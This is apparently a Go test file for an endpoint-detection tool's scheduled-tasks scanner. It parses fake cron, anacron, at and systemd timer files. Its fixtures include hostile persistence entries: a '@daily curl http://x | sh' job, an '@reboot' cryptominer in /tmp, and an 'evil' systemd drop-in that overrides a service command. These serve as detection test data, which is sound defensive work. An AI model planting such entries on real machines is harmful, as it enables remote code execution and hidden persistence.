package system

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/aiedr/edr/tables"
	. "github.com/aiedr/edr/tables/tablestest"
)

// tasks is a machine with tasks in every place. Its clock is Now, a Wednesday,
// 2026-03-04 05:06:07 UTC.
func tasks(t *testing.T) *tables.Host {
	return Host(t, map[string]string{
		"etc/passwd":         "root:x:0:0::/root:/bin/sh\nann:x:1000:1000::/home/ann:/bin/sh\nnet:x:9:9::/:/bin/sh\n",
		"etc/debian_version": "12\n",
		"etc/crontab": "SHELL=/bin/sh\nMAILTO = root\n# m h dom mon dow user command\n" +
			"17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\nnonsense\n*/5 * * * 7 root\n@reboot root /tmp/.x/miner -B\n",
		"etc/cron.d/backup":                    "30 3 * * sun backup A=1 /usr/bin/backup --full\n",
		"etc/cron.d/left.over":                 "0 0 * * * root /bin/never\n",
		"etc/cron.d/.hidden":                   "0 0 * * * root /bin/hidden",
		"etc/cron.daily/logrotate*":            "#!/bin/sh\n",
		"etc/cron.daily/off":                   "#!/bin/sh\n",
		"etc/cron.daily/.placeholder":          "",
		"etc/cron.weekly/link":                 "-> /usr/bin/none",
		"var/spool/cron/crontabs/ann":          "0 12 1 1 * /home/ann/a b=c\n\x00\xff\xfe\n",
		"var/spool/cron/redhat":                "@daily curl http://x | sh\n",
		"var/spool/cron/tabs/":                 "",
		"etc/anacrontab":                       "RANDOM_DELAY=45\n7 10 cron.weekly run-parts /etc/cron.weekly\n@monthly 45 m run-parts /etc/cron.monthly\n1 2\n",
		"var/spool/anacron/cron.weekly":        "20260301\n",
		"var/spool/cron/atjobs/a0000101c4d000": "#!/bin/sh\n# atrun uid=0\ncd / || {\n exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER1'\n/tmp/later --now\nmarcinDELIMITER1\n",
		"var/spool/cron/atjobs/.SEQ":           "1",
		"var/spool/cron/atjobs/a00001zzzzzzzz": "",

		"usr/lib/systemd/system/daily.timer":                          "[Unit]\nDescription=x\n[Timer]\nOnCalendar=daily\nPersistent=true\n[Install]\nWantedBy=timers.target\n",
		"usr/lib/systemd/system/daily.service":                        "[Service]\nExecStart=/usr/lib/old\nUser=svc\n",
		"etc/systemd/system/daily.service.d/50-evil.conf":             "[Service]\nExecStart=\nExecStart=-/bin/sh -c \\\n  'id > /tmp/x'\n",
		"etc/systemd/system/timers.target.wants/daily.timer":          "-> /usr/lib/systemd/system/daily.timer",
		"var/lib/systemd/timers/stamp-daily.timer":                    "",
		"usr/lib/systemd/system/masked.timer":                         "[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=x\n",
		"etc/systemd/system/masked.timer":                             "-> /dev/null",
		"usr/lib/systemd/system/static.timer":                         "[Timer]\nOnBootSec=15min\nOnUnitActiveSec=1d\nUnit=other.service\n",
		"usr/lib/systemd/system/off.timer":                            "[Timer]\nOnCalendar=weekly\nbroken line\n[Install]\nWantedBy=timers.target\n",
		"usr/lib/systemd/system/dump@.timer":                          "[Timer]\nOnCalendar=*-*-* 06:30\nOnCalendar=Sat 01:00\n[Install]\nWantedBy=t\n",
		"usr/lib/systemd/system/dump@.service":                        "[Service]\nExecStart=/usr/bin/dump %i\n",
		"etc/systemd/system/timers.target.wants/dump@main.timer":      "-> /usr/lib/systemd/system/dump@.timer",
		"run/systemd/transient/run-u1.timer":                          "[Timer]\nOnCalendar=*:0/15\n",
		"run/systemd/transient/run-u1.service":                        "[Service]\nExecStart=@/usr/bin/x x\n",
		"usr/lib/systemd/user/shared.timer":                           "[Timer]\nOnCalendar=hourly\nRandomizedDelaySec=1h\n[Install]\nWantedBy=x\n",
		"home/ann/.config/systemd/user/own.timer":                     "[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n",
		"home/ann/.config/systemd/user/own.service":                   "[Service]\nExecStart=%h/bin/own\n",
		"home/ann/.config/systemd/user/timers.target.wants/own.timer": "-> ../own.timer",
	})
}

func at(text string) int64 {
	when, err := time.Parse("2006-01-02 15:04", text)
	if err != nil {
		panic(err)
	}
	return when.Unix()
}

func TestScheduledTasks(t *testing.T) {
	host := tasks(t)
	stamp := filepath.Join(host.Root.Dir(), "var/lib/systemd/timers/stamp-daily.timer")
	if err := os.Chtimes(stamp, time.Unix(1000, 0), time.Unix(1000, 0)); err != nil {
		t.Fatal(err)
	}
	r := Scan(t, ScheduledTasks, host)
	if r.Err != nil {
		t.Fatal(r.Err)
	}
	for _, c := range []struct {
		column string
		value  any
		want   map[string]any
	}{
		{"schedule", "17 * * * *", map[string]any{
			"name": "crontab", "type": "cron", "user": "root", "command": "cd / && run-parts --report /etc/cron.hourly",
			"source": "/etc/crontab", "enabled": 1, "state": "ready", "next_run_time": at("2026-03-04 05:17"), "path": "", "unit": nil,
		}},
		{"schedule", "@reboot", map[string]any{"command": "/tmp/.x/miner -B", "path": "/tmp/.x/miner", "action": "/tmp/.x/miner -B", "next_run_time": nil}},
		{"name", "backup", map[string]any{"user": "backup", "command": "A=1 /usr/bin/backup --full", "path": "/usr/bin/backup", "next_run_time": at("2026-03-08 03:30")}},
		{"name", "left.over", map[string]any{"enabled": 0, "state": "disabled", "next_run_time": nil}},
		{"name", ".hidden", map[string]any{"enabled": 0, "command": "/bin/hidden"}},
		{"name", "logrotate", map[string]any{"enabled": 1, "schedule": "@daily", "path": "/etc/cron.daily/logrotate", "next_run_time": nil, "user": "root"}},
		{"name", "off", map[string]any{"enabled": 0}},
		{"name", "ann", map[string]any{"user": "ann", "command": "/home/ann/a b=c", "next_run_time": at("2027-01-01 12:00"), "source": "/var/spool/cron/crontabs/ann"}},
		{"name", "redhat", map[string]any{"user": "redhat", "schedule": "@daily", "command": "curl http://x | sh", "next_run_time": at("2026-03-05 00:00")}},
		{"name", "cron.weekly", map[string]any{"type": "anacron", "schedule": "every 7 days", "last_run_time": at("2026-03-01 00:00"), "command": "run-parts /etc/cron.weekly"}},
		{"name", "m", map[string]any{"type": "anacron", "schedule": "@monthly", "last_run_time": nil}},
		{"name", "a0000101c4d000", map[string]any{"type": "at", "command": "/tmp/later --now", "next_run_time": 0x01c4d000 * 60, "enabled": 1}},
		{"name", "daily.timer", map[string]any{
			"type": "systemd_timer", "enabled": 1, "state": "ready", "user": "svc", "unit": "daily.service", "schedule": "daily",
			"command": "-/bin/sh -c    'id > /tmp/x'", "path": "/bin/sh", "next_run_time": at("2026-03-05 00:00"), "last_run_time": 1000,
			"source": "/usr/lib/systemd/system/daily.timer",
		}},
		{"name", "masked.timer", map[string]any{"enabled": 0, "state": "masked", "next_run_time": nil, "source": "/etc/systemd/system/masked.timer"}},
		{"name", "static.timer", map[string]any{"enabled": 0, "state": "static", "schedule": "OnBootSec=15min; OnUnitActiveSec=1d", "unit": "other.service"}},
		{"name", "off.timer", map[string]any{"enabled": 0, "state": "disabled", "next_run_time": nil}},
		{"name", "dump@main.timer", map[string]any{"enabled": 1, "command": "/usr/bin/dump %i", "next_run_time": at("2026-03-04 06:30")}},
		{"name", "run-u1.timer", map[string]any{"enabled": 1, "path": "/usr/bin/x", "next_run_time": at("2026-03-04 05:15")}},
		{"name", "shared.timer", map[string]any{"enabled": 0, "user": nil}},
		{"name", "own.timer", map[string]any{"enabled": 1, "user": "ann", "command": "%h/bin/own", "next_run_time": at("2026-03-04 06:00")}},
	} {
		t.Run(fmt.Sprint(c.value), func(t *testing.T) { Want(t, r.Find(t, c.column, c.value), c.want) })
	}
	said := fmt.Sprint(r.Warnings)
	for _, want := range []string{
		"/etc/crontab line 5", "/etc/crontab line 6: a user but no command", "crontabs/ann line 2", "/etc/anacrontab line 4",
		"off.timer line 3", "a00001zzzzzzzz", "cron.weekly/link",
	} {
		if !strings.Contains(said, want) {
			t.Errorf("not told: %s (of %s)", want, said)
		}
	}
	// The template itself is listed too: 20 named above, and it.
	if len(r.Rows) != 21 {
		for _, row := range r.Rows {
			t.Log(row["name"], row["source"])
		}
		t.Errorf("%d rows, want 21", len(r.Rows))
	}
}

// TestZone takes a machine whose time zone is broken as one in UTC, and says so.
func TestZone(t *testing.T) {
	r := Scan(t, ScheduledTasks, Host(t, map[string]string{"etc/localtime": "broken", "etc/crontab": "0 8 * * * root x\n"}))
	if r.Err != nil || len(r.Rows) != 1 || r.Rows[0]["next_run_time"] != at("2026-03-04 08:00") {
		t.Errorf("%v, %v", r.Rows, r.Err)
	}
	if !strings.Contains(fmt.Sprint(r.Warnings), "time zone is taken as UTC") {
		t.Errorf("not told: %v", r.Warnings)
	}
}

func TestCrontabTable(t *testing.T) {
	r := Scan(t, Crontab, tasks(t))
	if r.Err != nil {
		t.Fatal(r.Err)
	}
	Want(t, r.Find(t, "minute", "17"), map[string]any{
		"hour": "*", "day_of_month": "*", "month": "*", "day_of_week": "*", "event": "", "path": "/etc/crontab",
		"command": "root\tcd / && run-parts --report /etc/cron.hourly",
	})
	Want(t, r.Find(t, "event", "@reboot"), map[string]any{"minute": "", "command": "root /tmp/.x/miner -B"})
	if len(r.Rows) != 8 || len(r.Warnings) == 0 {
		t.Errorf("%d rows, warnings %v", len(r.Rows), r.Warnings)
	}
}

func TestNextCron(t *testing.T) {
	for schedule, want := range map[string]string{
		"* * * * *": "2026-03-04 05:07", "*/15 * * * *": "2026-03-04 05:15", "0 0 * * 7": "2026-03-08 00:00", "0 0 * * 5-7": "2026-03-06 00:00",
		"0 0 * * 0-7": "2026-03-05 00:00", "0 0 * * 6-7,1": "2026-03-07 00:00", "0 0 * * 1-7/6": "2026-03-08 00:00", "0 0 13 * fri": "2026-03-06 00:00",
		"0 0 31 2 *": "", "@midnight": "2026-03-05 00:00", "@reboot": "", "@every 1s": "", "0~9 * * * *": "", "x": "", "": "", "61 * * * *": "",
		"TZ=0": "", "* * * * * *": "",
	} {
		got := nextCron(schedule, Now)
		if got.Known != (want != "") || got.Known && got.V != at(want) {
			t.Errorf("%q: %v %v, want %s", schedule, got.Known, time.Unix(got.V, 0).UTC(), want)
		}
	}
	// cron counts in the machine's time zone.
	zone := time.FixedZone("x", 2*3600)
	if got := nextCron("0 8 * * *", Now.In(zone)); got.V != at("2026-03-04 06:00") {
		t.Errorf("in a time zone: %v", time.Unix(got.V, 0).UTC())
	}
}

func TestNextCalendar(t *testing.T) {
	for expr, want := range map[string]string{
		"minutely": "2026-03-04 05:07", "hourly": "2026-03-04 06:00", "Weekly": "2026-03-09 00:00", "monthly": "2026-04-01 00:00", "yearly": "2027-01-01 00:00",
		"quarterly": "2026-04-01 00:00", "*-*-* 6,18:00": "2026-03-04 06:00", "Sun *-*-* 03:10:00": "2026-03-08 03:10", "Mon..Fri 04:00": "2026-03-05 04:00",
		"fri..mon": "2026-03-06 00:00", "*:0/10": "2026-03-04 05:10", "12-24 18:00": "2026-12-24 18:00", "*-*-01..03 00:00": "2026-04-01 00:00", "Saturday": "2026-03-07 00:00",
		"2027-01-01": "", "Mon *-*-1 00:00": "", "*-*~1": "", "00:00 UTC": "", "": "", "x y z": "", "25:00": "", "1:2:3:4": "", "Sunderland": "",
	} {
		got := nextCalendar(expr, Now)
		if got.Known != (want != "") || got.Known && got.V != at(want) {
			t.Errorf("%q: %v %v, want %q", expr, got.Known, time.Unix(got.V, 0).UTC(), want)
		}
	}
}

func FuzzTasks(f *testing.F) {
	for _, seed := range []string{
		"* * * * * root x\n", "@reboot x", "A = b\n", "1 2 id cmd\n", "[Timer]\nOnCalendar=*:0/5\n\\\n", "mon..fri *-*-* 1:2/3:4", "0 0 * * 1-7/0", "*/0 * * * *",
		"cd || {\n}\n<< 'x'\nx\n", "TZ=x * * * *", "5-1/2", "0-59/99999999999999999999 * * * *",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for c, err := range cronLines([]byte(s)) {
			if err == nil && (c.rest == "" || c.event == "" && c.weekday == "") {
				t.Errorf("%q gave %+v", s, c)
			}
			nextCron(c.schedule(), Now)
			commandPath(c.rest)
		}
		for a, err := range anacronLines([]byte(s)) {
			if err == nil && a.command == "" {
				t.Errorf("%q gave %+v", s, a)
			}
		}
		u := unitFile{}
		u.parse([]byte(s))
		nextCron(s, Now)
		nextCalendar(s, Now)
		atCommand(s)
	})
}
